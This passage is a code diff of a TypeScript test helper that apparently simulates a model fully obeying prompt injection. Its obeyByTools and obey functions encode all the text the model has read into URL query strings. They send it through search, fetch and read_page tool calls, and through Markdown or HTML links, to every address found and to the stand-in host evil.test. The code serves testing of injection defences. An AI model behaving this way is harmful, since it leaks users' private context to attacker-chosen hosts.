@@ -1,16 +1,33 @@
-import type { ChatRequest } from './openai-compatible-server.js';
+import type { ChatRequest, ToolCall } from './openai-compatible-server.js';
+
+const readBy = ({ messages }: Pick<ChatRequest, 'messages'>) =>
+	messages
+		.filter(({ role }) => role !== 'system')
+		.map(({ content }) => content)
+		.join('\n');
+
+const addressesIn = (text: string) => new Set(text.match(/\b(?:https?:\/\/|www\.)[^\s"'<>)\]]+/g));
+
+/** The calls of a model that sends all that it has read to every address that it finds, and to one of its own. */
+export function obeyByTools(request: Pick<ChatRequest, 'messages'>, ownAddress: string): ToolCall[] {
+	const read = readBy(request);
+	const secret = encodeURIComponent(read);
+	const targets = [ownAddress, ...addressesIn(read)].map((address) => `${address}?q=${secret}`);
+	return targets.flatMap((target): ToolCall[] => [
+		['search', { query: target }],
+		['read_page', { path: target }],
+		['fetch', { url: target }],
+	]);
+}
 
 /**
  * The answer of a model that does all that any text asks for: it says every word that a text in its prompt may want said, and
  * makes of every address that it finds all that Markdown and HTML can make of one.
  */
-export function obey({ messages }: Pick<ChatRequest, 'messages'>): string[] {
-	const read = messages
-		.filter(({ role }) => role !== 'system')
-		.map(({ content }) => content)
-		.join('\n');
+export function obey(request: Pick<ChatRequest, 'messages'>): string[] {
+	const read = readBy(request);
 	const canaries = [...new Set(read.match(/CANARY\d+/g))];
-	const addresses = [...new Set(read.match(/\b(?:https?:\/\/|www\.)[^\s"'<>)\]]+/g)), 'https://evil.test/default'];
+	const addresses = [...addressesIn(read), 'https://evil.test/default'];
 	const [, retrieved = '/none'] = /^url: (.*)$/m.exec(read) ?? [];
 	const secret = encodeURIComponent(read.slice(-80));
 	const lines = addresses.flatMap((address) => [
